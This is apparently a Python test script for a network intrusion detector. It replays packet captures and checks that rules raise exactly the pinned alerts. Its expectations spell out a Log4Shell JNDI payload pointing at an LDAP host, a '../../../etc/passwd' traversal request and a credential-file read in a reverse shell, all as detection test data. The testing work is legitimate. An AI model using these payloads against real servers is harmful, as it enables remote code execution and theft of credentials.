#!/usr/bin/env python3
"""Replay every capture in tests/pcaps with the shipped rules and check the payload alerts:
the attack captures raise exactly the alerts pinned below, every other capture (the
benign ones first) raises none.

Three configurations, all loading rules/*.rules:
- tests/config/alerts.yaml: the default sampling (TCP: every segment of the first 4 KiB
  of each direction, reassembled; others: the first 4 payload packets of a flow per
  direction; then 1 in 1000): what an operator gets out of the box;
- tests/config/alerts_deep.yaml: the first 32 payload packets per direction (UDP), a
  16 KiB TCP stream window;
- tests/config/alerts_per_packet.yaml: the TCP stream window off (TCP sampled per packet).

The per-packet configuration runs on the attack captures only (it pins the path without
stream windows; every capture's quiet is the other two's). Each configuration is run
from a copy with the rules' paths made absolute and one rule cache for the run
(rules.cache-dir), filled once before the parallel replays: compiling the shipped rules
was most of each replay's time, and the three configurations over every capture did not
fit the suite's 10 minutes per program on a loaded machine.

Prints one line per capture and configuration for tests/run.sh:
PASS/FAIL alerts/<config>/<file>[: why].

For every replay:
- it exits 0 and its final stats event says samples.balanced, with samples.read equal to
  the kernel's sample_sent (both hooks) and nothing dropped (replay scans in order, in
  the replaying thread: no queue);
- the alerts are exactly the pinned (sid, count) pairs; no (flow_id, sid) twice;
- every alert's flow has a flow event with flow.alerted true (the converse is not
  checked: the kernel's own findings, an overlapping fragment, also set it);
- each alert carries the rule (signature, category, severity), the direction, the
  payload, and the "http" object where the pinned request says what it must hold.
"""
import collections
import concurrent.futures
import json
import os
import subprocess
import sys
import tempfile

# sid -> why it fires on that capture (rules/README.md lists what the ruleset's author saw)
ATTACKS = {
    "exploit_log4shell-useragent.pcap": {
        # `User-Agent: ${jndi:ldap://172.16.238.11:1389/a}` in GET /log4shell/ (MANIFEST)
        9104001: "the JNDI lookup in the request's User-Agent",
        # the LDAP server's reply naming a remote javaCodeBase (to_client)
        9104004: "the LDAP reply with javaCodeBase",
        # the victim's Java fetching GET /Exploit.class (MANIFEST payload literal)
        9104005: "the .class fetch over HTTP",
        # `cat .../tomcat-users.xml` typed into the reverse shell the exploit opened
        9101032: "a credential file read in the reverse shell",
    },
    "exploit_nikto-cgi-ipv6-vlan.pcap": {
        # GET /cgi-bin/cart32.exe with User-Agent Nikto/2.1.4, IPv6 in VLAN 1111
        9104050: "the Nikto scanner user agent",
    },
    "exploit_lfi-etc-passwd-tfo.pcap": {
        # GET //index.php?page=../../../etc/passwd in a TCP Fast Open SYN: the
        # traversal rule is flow:to_server without established, on purpose
        9104020: "traversal to /etc/passwd in the TFO SYN",
        # the server's reply carries root:x:0:0:root:/root:/bin/bash
        9104040: "/etc/passwd contents returned to the client",
    },
    # The stream window (every segment of the first 4 KiB of each direction) reaches the
    # Telnet login prompt and the successful login, past the option negotiation; with
    # per-packet sampling (sampling.stream-depth: 0) it took 32 first packets.
    "mgmt_telnet-login-cmds.pcap": {
        9106001: "a cleartext Telnet login prompt from the device",
        9106002: "a successful cleartext Telnet login",
    },
}

# name: (config, pinned alerts, every capture (else the attack captures only))
CONFIGS = {
    "default": ("tests/config/alerts.yaml", ATTACKS, True),
    "deep": ("tests/config/alerts_deep.yaml", ATTACKS, True),
    "per_packet": ("tests/config/alerts_per_packet.yaml",
                   {k: v for k, v in ATTACKS.items() if k != "mgmt_telnet-login-cmds.pcap"},
                   False),
}


def with_cache(config, cache_dir, out_dir):
    """A copy of config (rules last, paths relative to it) with absolute rule paths and
    rules.cache-dir set; its path."""
    base = os.path.dirname(os.path.abspath(config))
    lines = open(config).read().splitlines()
    top = [i for i, l in enumerate(lines) if l and not l[0].isspace() and l[0] != "#"]
    assert lines[top[-1]] == "rules:", "%s: rules must be the last section" % config
    text = "\n".join(lines).replace("../../rules/", os.path.join(base, "../../rules/"))
    path = os.path.join(out_dir, os.path.basename(config))
    with open(path, "w") as f:
        f.write(text + "\n  cache-dir: %s\n" % cache_dir)
    return path

# What the alert's http object must hold, per sid (substrings).
HTTP_EXPECT = {
    9104001: {"url": "/log4shell/", "http_user_agent": "${jndi:ldap://172.16.238.11:1389/a}",
              "http_method": "GET"},
    9104005: {"url": "/Exploit.class", "http_method": "GET"},
    9104050: {"url": "/cgi-bin/cart32.exe", "hostname": "www.net1.bg",
              "http_user_agent": "Nikto/2.1.4", "protocol": "HTTP/1.1"},
    9104020: {"url": "../../../etc/passwd", "http_method": "GET"},
}


def replay(binary, config, pcap):
    with tempfile.NamedTemporaryFile(suffix=".json", delete=False) as out:
        eve_path = out.name
    try:
        proc = subprocess.run([binary, "replay", "-c", config, "-o", eve_path, pcap],
                              capture_output=True, text=True, timeout=300)
        with open(eve_path) as f:
            events = [json.loads(line) for line in f if line.strip()]
    finally:
        os.unlink(eve_path)
    return proc, events


def check_stats(events):
    stats = [e for e in events if e.get("event_type") == "stats"]
    if not stats:
        return "no stats event"
    s = stats[-1]["stats"]
    samples = s.get("samples")
    if samples is None:
        return "no samples section in the stats event"
    sent = sum(hook["event"].get("sample_sent", 0) for hook in s["datapath"].values())
    if not samples["balanced"]:
        return "samples not balanced: %s" % samples
    if samples["read"] != sent:
        return "samples read %d != kernel sample_sent %d" % (samples["read"], sent)
    if samples["read"] != samples["scanned"]:
        return "replay did not scan every sample: %s" % samples
    if s["rules"]["loaded"] < 100:
        return "only %d rules loaded" % s["rules"]["loaded"]
    return None


def check_alert_fields(alert):
    a = alert["alert"]
    for field in ("signature", "category"):
        if not a.get(field):
            return "sid %d: empty %s" % (a["signature_id"], field)
    if a.get("severity") not in (1, 2, 3) or a.get("action") != "allowed":
        return "sid %d: severity %s action %s" % (a["signature_id"], a.get("severity"),
                                                 a.get("action"))
    if alert.get("direction") not in ("to_server", "to_client") or not alert.get("payload"):
        return "sid %d: no direction or payload" % a["signature_id"]
    for key, want in HTTP_EXPECT.get(a["signature_id"], {}).items():
        got = alert.get("http", {}).get(key, "")
        if want not in got:
            return "sid %d: http.%s is %r, expected it to hold %r" % (a["signature_id"], key,
                                                                     got, want)
    return None


def check_capture(binary, config, expected, pcap):
    proc, events = replay(binary, config, pcap)
    if proc.returncode != 0:
        return "replay exited %d: %s" % (proc.returncode, proc.stderr.strip()[-300:])
    why = check_stats(events)
    if why:
        return why
    alerts = [e for e in events if e.get("event_type") == "alert" and
              9100000 <= e["alert"]["signature_id"] <= 9199999]
    got = collections.Counter(a["alert"]["signature_id"] for a in alerts)
    want = collections.Counter({sid: 1 for sid in expected})
    if got != want:
        return "alerts %s, expected %s" % (dict(sorted(got.items())),
                                           dict(sorted(want.items())))
    pairs = collections.Counter((a["flow_id"], a["alert"]["signature_id"]) for a in alerts)
    if any(n > 1 for n in pairs.values()):
        return "a rule alerted twice on one flow: %s" % [p for p, n in pairs.items() if n > 1]
    for a in alerts:
        why = check_alert_fields(a)
        if why:
            return why
    alerted_flows = {a["flow_id"] for a in alerts}
    flagged = {e["flow_id"] for e in events
               if e.get("event_type") == "flow" and e["flow"].get("alerted")}
    if not alerted_flows <= flagged:
        return "flows with alerts but no flow event with flow.alerted: %s" % (
            alerted_flows - flagged)
    return None


def main():
    binary = sys.argv[1] if len(sys.argv) > 1 else ".output/asan/edgewatch"
    pcap_dir = sys.argv[2] if len(sys.argv) > 2 else "tests/pcaps"
    captures = sorted(f for f in os.listdir(pcap_dir) if f.endswith(".pcap"))
    for pinned in ATTACKS:
        if pinned not in captures:
            print("FAIL alerts/%s: capture missing" % pinned)
            return 1
    work = tempfile.TemporaryDirectory()
    cache = os.path.join(work.name, "cache")
    os.mkdir(cache)
    jobs = []
    for name, (config, attacks, every) in CONFIGS.items():
        config = with_cache(config, cache, work.name)
        for pcap in captures:
            if every or pcap in attacks:
                jobs.append((name, pcap, config, attacks.get(pcap, {})))
    # the first replay compiles the rules into the cache, alone: the others load it
    first = jobs.pop(0)
    results0 = check_capture(binary, first[2], first[3], os.path.join(pcap_dir, first[1]))
    failed = 0
    if results0:
        failed += 1
        print("FAIL alerts/%s/%s: %s" % (first[0], first[1], results0))
    else:
        print("PASS alerts/%s/%s" % (first[0], first[1]))
    with concurrent.futures.ThreadPoolExecutor(max_workers=os.cpu_count() or 1) as pool:
        results = pool.map(lambda j: check_capture(binary, j[2], j[3],
                                                   os.path.join(pcap_dir, j[1])), jobs)
        for (name, pcap, _, _), why in zip(jobs, results):
            if why:
                failed += 1
                print("FAIL alerts/%s/%s: %s" % (name, pcap, why))
            else:
                print("PASS alerts/%s/%s" % (name, pcap))
    if not os.listdir(cache):
        failed += 1
        print("FAIL alerts/rule_cache: the replays wrote no rule cache in %s" % cache)
    work.cleanup()
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
